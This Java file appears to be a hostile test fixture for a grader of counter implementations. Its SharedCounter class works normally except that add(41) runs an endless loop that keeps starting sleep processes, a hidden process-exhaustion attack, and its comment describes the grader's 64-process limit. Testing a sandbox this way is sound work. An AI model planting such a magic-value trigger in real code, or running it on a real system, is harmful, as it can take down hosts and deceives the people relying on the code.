package racecourse.counter;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/**
 * Hostile: starts processes without end (each sleeps for a day). The grader stops a child holding
 * more than 64 processes, and every process it started.
 * Otherwise a correct counter: only the check that calls add(41) (countsOnOneThread) loses points.
 */
public class SharedCounter {
    private long count;

    public synchronized void increment() {
        count++;
    }

    public synchronized void add(long delta) {
        if (delta == 41) {
            attack();
        }
        count += delta;
    }

    public synchronized long get() {
        return count;
    }

    private static void attack() {
        List<Process> started = new ArrayList<>();
        while (true) {
            try {
                started.add(new ProcessBuilder("sleep", "86413").start());
            } catch (IOException e) {
                // out of processes for now: keep trying
            }
        }
    }
}
